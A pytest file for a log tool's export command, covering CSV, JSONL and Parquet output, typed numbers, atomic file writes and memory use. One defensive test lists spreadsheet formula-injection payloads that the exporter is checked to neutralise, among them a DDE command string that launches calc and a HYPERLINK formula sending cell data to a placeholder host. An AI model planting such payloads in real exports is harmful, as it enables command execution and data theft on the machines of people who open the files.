"""`hooklog export`: complete, typed, safe in a spreadsheet, in constant memory."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any, cast

import pytest
from boto3.dynamodb.types import TypeSerializer
from pyarrow import parquet

from hooklog.clock import utc_now
from hooklog.records.items import record_attributes
from hooklog_ops.errors import IndexMissingError
from hooklog_ops.exporting import Format, columns, whole_file, write
from hooklog_ops.records import Item, Period, Records
from tests.builders import failed_fax, failed_message, fax_log, message_log, record
from tests.fakes import NOW
from tests.ops.conftest import Desk
from tests.ops.seeding import STORAGE, alias, count_tries, log_id, store, store_with_alias

if TYPE_CHECKING:
    from mypy_boto3_dynamodb import DynamoDBClient


def item(number: int = 1, **changes: str) -> Item:
    """Return a failed message's row."""
    log = failed_message(id=log_id(number), **changes)
    return {"pk": f"message#{log_id(number)}", **record_attributes(record(log), STORAGE)}


def exported(*items: Item, form: Format) -> bytes:
    """Return a file's bytes."""
    out = io.BytesIO()
    assert write(items, form, out) == len(items)
    return out.getvalue()


def test_every_attribute_of_a_log_is_a_column() -> None:
    """The columns are those of all kinds of log, without the keys of indexes."""
    named = set(columns())
    assert {"id", "from", "to", "charge", "cause", "number_of_pages", "kind", "drift"} <= named
    assert not {"pk", "day", "failed_on", "expires_at", "version"} & named
    assert len(columns()) == len(named)


def test_csv_has_one_row_per_record() -> None:
    """It has a heading, and values read back unchanged."""
    (row,) = csv.DictReader(io.StringIO(exported(item(), form=Format.CSV).decode()))
    assert (row["id"], row["error_code"], row["charge"]) == (log_id(1), "30003", "0.00415")
    assert row["to"] == "+14155550122"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        # OWASP, CSV Injection.
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ('=HYPERLINK("https://a.example?"&A1)', '\'=HYPERLINK("https://a.example?"&A1)'),
        # OWASP/www-community#401: a tab or a carriage return before the formula.
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("\rtext", "'\rtext"),
        # spree/spree#14045: blanks before it; the others are invisible, too.
        ("  =1+1", "'  =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        # Asymmetric-al/core#518: a blank as wide as a character.
        ("\u3000=1+1", "'\u3000=1+1"),
        ("\u2009@SUM(1)", "'\u2009@SUM(1)"),
        ("\u200b\ufeff=1+1", "'\u200b\ufeff=1+1"),
        ("\x00=1+1", "'\x00=1+1"),
        # Full-width and small forms, which spreadsheets take for the ASCII ones.
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1-1", "'\uff0b1-1"),
        ("\uff0d1+1", "'\uff0d1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\ufe661+1", "'\ufe661+1"),
        # OWASP, CSV Injection: where another character separates cells, one begins within a text.
        ("a;=1+1;b", "a;'=1+1;b"),
        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
        ("a\n=1+1", "a\n'=1+1"),
        # productdevbook/hucre#164: quotes that a program takes away.
        ('"=1+1"', '\'"=1+1"'),
        # Neither formula nor anything else that a spreadsheet computes.
        ("+12065550123", "+12065550123"),
        ("a=b; -", "a=b;' -"),
        ("1-1", "1-1"),
        ("", ""),
    ],
)
def test_a_text_is_not_a_formula_in_a_spreadsheet(text: str, written: str) -> None:
    """A carrier writes the error message, and a spreadsheet would evaluate it."""
    csv_text = exported(item(error_message=text), form=Format.CSV).decode()
    (row,) = csv.DictReader(io.StringIO(csv_text, newline=""))
    assert row.get("error_message", "") == written


def test_a_line_break_in_a_text_begins_no_row() -> None:
    """calcom/cal.diy#29783: a carriage return has to be quoted like a line feed."""
    csv_text = exported(item(error_message="a\rb\nc"), form=Format.CSV).decode()
    assert '"a\rb\nc"' in csv_text


@pytest.mark.parametrize(
    ("charge", "written"),
    [
        ("-4E-7", "-0.0000004"),
        ("-1", "-1"),
        ("1E+3", "1000"),
        ("0.00415", "0.00415"),
        ("-0.000000000000000000000000000001", "-0.000000000000000000000000000001"),
    ],
)
def test_a_number_is_plain_in_a_spreadsheet(charge: str, written: str) -> None:
    """Without a quote or an exponent, however small and negative."""
    row = {**item(), "charge": Decimal(charge)}
    (read,) = csv.DictReader(io.StringIO(exported(row, form=Format.CSV).decode()))
    assert read["charge"] == written


@pytest.mark.parametrize(
    ("charge", "written"),
    [
        ("0.123456789012", "0.123456789012"),
        ("-4E-7", "-4E-7"),
        ("123456789012345678.0000000000000000014", "123456789012345678.000000000000000001"),
        ("0.00000000000000000051", "1E-18"),
    ],
)
def test_parquet_takes_any_decimals(charge: str, written: str) -> None:
    """Exactly up to eighteen places, and rounded beyond."""
    rows = exported({**item(), "charge": Decimal(charge)}, item(2), form=Format.PARQUET)
    first, _ = parquet.read_table(io.BytesIO(rows)).to_pylist()
    assert first["charge"] == Decimal(written)


def test_json_lines_keep_numbers_as_numbers() -> None:
    """Dollars and milliseconds are not strings."""
    line = json.loads(exported(item(), form=Format.JSONL))
    assert (line["charge"], line["lag_ms"], line["retry"]) == (0.00415, 7250, True)


def test_parquet_has_types() -> None:
    """Dollars are exact decimals, counts are integers, absent attributes are null."""
    table = parquet.read_table(io.BytesIO(exported(item(), form=Format.PARQUET)))
    (row,) = table.to_pylist()
    assert row["charge"] == Decimal("0.00415")
    assert row["number_of_segments"] == 1
    assert row["number_of_pages"] is None


def test_a_period_is_exported_to_a_file(desk: Desk, tmp_path: Path) -> None:
    """Every format has the faxes and messages of every outcome."""
    now = utc_now()
    logs = (message_log(), failed_fax(), fax_log(id=log_id(3)), failed_message(id=log_id(4)))
    hour_ago = (now - timedelta(hours=1)).isoformat()
    store(desk, *(log | {"created_at": hour_ago} for log in logs))
    for form in Format:
        out = tmp_path / f"logs.{form}"
        result = desk.hooklog("export", "--since", "2h", "--format", form, "--out", str(out))
        assert result.exit_code == 0, result.output
        assert "4 records written" in result.output
        assert out.stat().st_size > 0
    assert len((tmp_path / "logs.jsonl").read_text().splitlines()) == 4
    printed = desk.hooklog("export", "--since", "2h", "--type", "fax", "--format", "jsonl").stdout
    assert [json.loads(line)["log_type"] for line in printed.splitlines()] == ["fax", "fax"]


def test_an_alias_is_not_exported(desk: Desk) -> None:
    """A fax with two names is one record."""
    hour_ago = (utc_now() - timedelta(hours=1)).isoformat()
    key, _ = store_with_alias(desk, 1, created_at=hour_ago)
    alias(desk, 2)
    printed = desk.hooklog("export", "--since", "2h", "--format", "jsonl").stdout
    assert [f"fax#{json.loads(line)['id']}" for line in printed.splitlines()] == [key]


def test_what_is_not_stored_yet_is_not_exported(desk: Desk) -> None:
    """A row with nothing but tries is no log, and tries are no column of one."""
    hour_ago = (utc_now() - timedelta(hours=1)).isoformat()
    store(desk, failed_fax(id=log_id(1), created_at=hour_ago))
    for number in (1, 2):
        count_tries(desk, number)
    lines = desk.hooklog("export", "--since", "2h", "--format", "jsonl").stdout.splitlines()
    assert [json.loads(line)["id"] for line in lines] == [log_id(1)]
    assert "tries" not in json.loads(lines[0])


def test_json_describes_the_file(desk: Desk, tmp_path: Path) -> None:
    """The records go to the file; without one --json is a usage error."""
    out = str(tmp_path / "logs.csv")
    assert desk.json("export", "--since", "1h", "--out", out) == {"records": 0, "file": out}
    assert desk.hooklog("export", "--since", "1h", "--json").exit_code == 2


def test_an_error_leaves_the_file_unchanged(
    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The table is queried before the file is opened."""
    out = tmp_path / "logs.csv"
    out.write_text("yesterday's")

    def lacks(*_: object, **__: object) -> None:
        raise IndexMissingError("The table has no index days.")

    monkeypatch.setattr("hooklog_ops.records.Records._query", lacks)
    result = desk.hooklog("export", "--since", "1h", "--out", str(out))
    assert isinstance(result.exception, IndexMissingError)
    assert out.read_text() == "yesterday's"


@pytest.mark.parametrize("before", [None, "yesterday's"])
@pytest.mark.parametrize("error", [OSError(28, "No space left"), KeyboardInterrupt()])
def test_a_file_appears_whole_or_not_at_all(
    before: str | None, error: BaseException, tmp_path: Path
) -> None:
    """Nothing is left of one that could not be finished, and the file before it stays."""
    out = tmp_path / "logs.parquet"
    if before is not None:
        out.write_text(before)

    def interrupted() -> Iterator[Item]:
        yield item()
        raise error

    with pytest.raises(type(error)), whole_file(out) as file:
        write(interrupted(), Format.PARQUET, file)
    assert [path.name for path in tmp_path.iterdir()] == ([] if before is None else [out.name])
    assert before is None or out.read_text() == before


def test_a_file_keeps_its_place(tmp_path: Path) -> None:
    """A link still leads to it, and a device is written to."""
    out, link = tmp_path / "logs.csv", tmp_path / "latest"
    link.symlink_to(out)
    with whole_file(link) as file:
        file.write(b"new")
        assert not out.exists()
    assert out.read_bytes() == b"new"
    assert link.is_symlink()
    with whole_file(Path("/dev/null")) as file:
        file.write(b"new")
    assert Path("/dev/null").is_char_device()


def test_parquet_needs_a_file(desk: Desk) -> None:
    """A Parquet file cannot be read while it is written, so a pipe is useless."""
    assert desk.hooklog("export", "--since", "1h", "--format", "parquet").exit_code == 2


class ManyRecords:
    """Stands in for DynamoDB with any number of records in one day, page by page."""

    def __init__(self, count: int) -> None:
        """Hold that many records."""
        serialize = TypeSerializer().serialize
        self.count = count
        self.item = {name: serialize(value) for name, value in item().items()}

    def query(self, **asked: Any) -> dict[str, Any]:  # noqa: ANN401 - boto3's parameters
        """Return the keys of a page, and where the next begins."""
        start = int(asked["ExclusiveStartKey"]["pk"]["S"]) if "ExclusiveStartKey" in asked else 0
        end = min(start + asked["Limit"], self.count)
        more = {"LastEvaluatedKey": {"pk": {"S": str(end)}}} if end < self.count else {}
        return {"Items": [{"pk": {"S": f"message#{n}"}} for n in range(start, end)], **more}

    def batch_get_item(self, **asked: Any) -> dict[str, Any]:  # noqa: ANN401 - as above
        """Return the rows of these keys."""
        ((table, wanted),) = asked["RequestItems"].items()
        rows = [{**self.item, **key} for key in wanted["Keys"]]
        return {"Responses": {table: rows}, "UnprocessedKeys": {}}


@pytest.mark.parametrize("form", list(Format))
def test_memory_stays_flat(form: Format, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Four times the records take no more memory, from the pages of the index to the file."""
    # A group of Parquet rows stays in memory until it is written; here both sizes fill several.
    monkeypatch.setattr("hooklog_ops.exporting._GROUP", 200)
    day = Period(
        since=NOW - timedelta(hours=1), until=NOW + timedelta(hours=1), log_types=["message"]
    )

    def peak(count: int) -> int:
        records = Records(cast("DynamoDBClient", ManyRecords(count)), "table")
        tracemalloc.start()
        with (tmp_path / "out").open("wb") as out:
            assert write(records.of_period(day), form, out) == count
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    peak(10)  # imports and caches
    assert peak(4_000) < 1.2 * peak(1_000)
